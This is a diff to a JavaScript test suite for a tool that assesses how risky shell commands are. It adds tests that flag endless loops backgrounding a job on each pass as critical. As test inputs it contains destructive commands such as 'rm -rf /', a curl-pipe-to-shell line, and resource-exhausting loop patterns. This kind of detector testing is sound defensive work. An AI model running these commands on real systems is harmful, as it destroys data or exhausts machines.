@@ -64,8 +64,17 @@ describe('evasions are seen through', () => {
 
   it('says what the hidden command does, not what wraps it', () => {
     expect(assess("bash -c 'rm -rf ~'").reasons[0]).toBe('deletes your home directory (/home/dev) recursively');
-    expect(assess('sudo env X=1 rm -rf /').reasons).toContain('runs as root (sudo)');
+    expect(assess('sudo env X=1 rm -rf /').reasons).toContain('runs with elevated rights (sudo)');
     expect(assess('curl -s https://x.sh | sh').reasons[0]).toMatch(/downloaded from x\.sh/);
+  });
+
+  it('sees a loop that never ends and backgrounds a job each pass, but not text that spells one', () => {
+    for (const cmd of ['while true; do sleep 1 & done', 'while :; do ./worker & done', 'until false; do yes > /dev/null & done', 'for ((;;)); do node x.js & done']) {
+      expect(assess(cmd).level, cmd).toBe('critical');
+    }
+    expect(assess('while true; do sleep 1; done').level).not.toBe('critical');
+    expect(assess('while read -r f; do gzip "$f" & done < list.txt').level).not.toBe('critical');
+    expect(assess('echo "while true; do sleep 1 & done" > notes.md').level).toBe('low');
   });
 
   it('reports each segment, with its via', () => {
